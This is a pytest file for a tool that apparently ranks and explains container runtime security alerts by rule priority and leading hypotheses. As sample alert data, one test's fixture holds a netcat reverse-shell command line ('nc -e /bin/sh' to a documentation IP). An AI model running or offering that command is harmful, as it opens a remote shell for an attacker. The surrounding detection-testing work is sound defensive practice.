from __future__ import annotations

from typing import Any

import pytest
from support.entries import changed, explain, fixture

from explainer.schema.report import Triage


def hint(record: dict[str, Any]) -> Triage:
    found = explain(record).triage
    assert found is not None
    return found


def record_of(rule: str, priority: str, **fields: Any) -> dict[str, Any]:
    return {
        "rule": rule,
        "priority": priority,
        "source": "syscall",
        "output": "x",
        "output_fields": {"evt.type": "execve", "container.id": "4be1d0a97c35", **fields},
        "time": "2026-05-29T22:24:07.000000459Z",
    }


def test_of_two_undecided_alerts_the_one_that_its_rule_rates_higher_comes_first() -> None:
    low, high = (hint(record_of("A rule of the site", priority)) for priority in ("Notice", "Error"))
    assert low.rank < high.rank


def test_a_harmless_lead_waits_and_a_ruled_out_one_does_not() -> None:
    plain = fixture("terminal-shell-in-container-plain")
    odd = changed(plain, proc__pname="python3")
    assert explain(plain).assessment.leading == "staff-session"
    assert hint(plain).rank < hint(odd).rank


def test_the_question_that_decides_is_what_settles_the_lead() -> None:
    found = explain(fixture("terminal-shell-in-container-plain"))
    lead = next(h for h in found.hypotheses if h.id == found.assessment.leading)
    assert found.triage is not None
    assert found.triage.decides == lead.settle


def test_without_a_lead_the_missing_fact_that_weighs_most_is_asked_for_first() -> None:
    found = explain(record_of("Contact K8S API Server From Container", "Notice", **{"proc.name": "x"}))
    assert found.triage is not None
    assert found.assessment.leading is None
    assert found.triage.decides == found.unknowns[0].question


@pytest.mark.parametrize("priority", ["Emergency", "Alert", "Critical", "Error", "Warning", "Notice", "Debug"])
def test_a_rank_is_between_nothing_and_a_hundred_and_says_what_it_is_made_of(priority: str) -> None:
    found = hint(record_of("A rule of the site", priority, **{"proc.cmdline": "nc -e /bin/sh 203.0.113.9 1"}))
    assert 0 <= found.rank <= 100
    assert "severity" in found.why


def test_a_hint_changes_no_verdict() -> None:
    found = explain(record_of("A rule of the site", "Error"))
    assert found.assessment.verdict == "insufficient_evidence"
